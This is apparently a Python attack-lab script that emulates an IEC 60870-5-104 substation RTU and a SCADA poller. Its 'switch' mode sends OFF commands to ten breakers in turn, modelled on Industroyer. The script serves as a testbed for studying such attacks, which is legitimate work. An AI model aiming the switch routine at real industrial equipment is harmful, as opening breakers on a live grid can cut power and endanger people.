"""IEC 60870-5-104 peers of the attack lab (c104), common address 47 on <rtu>:2404.

usage: iec104_peer.py server <ip>               -- a substation RTU: ten breakers, status points
                                                   IOA 1-10 driven by single commands IOA 101-110
       iec104_peer.py poll <rtu> <seconds>      -- a SCADA server: general interrogation every
                                                   second
       iec104_peer.py switch <rtu>              -- an attacker: opens every breaker, one single
                                                   command (C_SC_NA_1, OFF) per IOA 101-110, as
                                                   Industroyer's IEC 104 module iterates

The clients connect muted and send STARTDT themselves (c104's automatic initiation sometimes
never leaves the muted state on a busy machine). The poller prints how many interrogations were
answered when it ends or is stopped (SIGTERM), and fails when one gets no status answer; the
attacker how many commands it sent and how many were confirmed.
"""

import signal
import sys
import time

import c104

BREAKERS = range(1, 11)


def serve(ip):
    server = c104.Server(ip=ip, port=2404, tick_rate_ms=100)
    station = server.add_station(common_address=47)
    for i in BREAKERS:
        status = station.add_point(io_address=i, type=c104.Type.M_SP_NA_1)
        status.value = True
        station.add_point(
            io_address=100 + i,
            type=c104.Type.C_SC_NA_1,
            related_io_address=i,
            related_io_autoreturn=True,
        )
    server.start()
    print("iec104 server ready", flush=True)
    while True:
        time.sleep(1)


def connect(rtu):
    client = c104.Client(tick_rate_ms=50, command_timeout_ms=3000)
    connection = client.add_connection(ip=rtu, port=2404, init=c104.Init.MUTED)
    station = connection.add_station(common_address=47)
    client.start()
    deadline = time.monotonic() + 10
    while not connection.is_connected:
        if time.monotonic() > deadline:
            raise SystemExit(f"not connected: {connection.state}")
        time.sleep(0.1)
    if not connection.unmute():
        raise SystemExit("STARTDT not confirmed")
    return client, connection, station


def poll(rtu, seconds):
    client, connection, station = connect(rtu)
    answers = []

    def on_status(
        point: c104.Point, previous_info: c104.Information, message: c104.IncomingMessage
    ) -> c104.ResponseState:
        answers.append(point.io_address)
        return c104.ResponseState.SUCCESS

    for i in BREAKERS:
        station.add_point(io_address=i, type=c104.Type.M_SP_NA_1).on_receive(callable=on_status)
    sent = 0

    def report(*_):
        client.stop()
        print(f"interrogations: {sent}, status answers: {len(answers)}", flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, report)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        # The RTU's answers (the breakers' status) tell that it answers: c104's client now and
        # then misses the confirmation of an interrogation that did cross the wire.
        before = len(answers)
        connection.interrogation(
            common_address=47,
            cause=c104.Cot.ACTIVATION,
            qualifier=c104.Qoi.STATION,
            wait_for_response=False,
        )
        sent += 1
        deadline = time.monotonic() + 3
        while len(answers) == before:
            if time.monotonic() > deadline:
                raise SystemExit(f"interrogation {sent} got no answer within 3 s")
            time.sleep(0.02)
        if sent == 1:
            print("first interrogation done", flush=True)
        time.sleep(1)
    report()


def switch(rtu):
    client, _, station = connect(rtu)
    sent, confirmed = 0, 0
    for i in BREAKERS:
        command = station.add_point(io_address=100 + i, type=c104.Type.C_SC_NA_1)
        command.value = False
        confirmed += bool(command.transmit(cause=c104.Cot.ACTIVATION))
        sent += 1
    time.sleep(0.3)
    client.stop()
    print(f"commands sent: {sent}, confirmed: {confirmed}", flush=True)


if __name__ == "__main__":
    mode = sys.argv[1]
    if mode == "server":
        serve(sys.argv[2])
    elif mode == "poll":
        poll(sys.argv[2], float(sys.argv[3]))
    elif mode == "switch":
        switch(sys.argv[2])
    else:
        raise SystemExit(f"unknown mode {mode}")
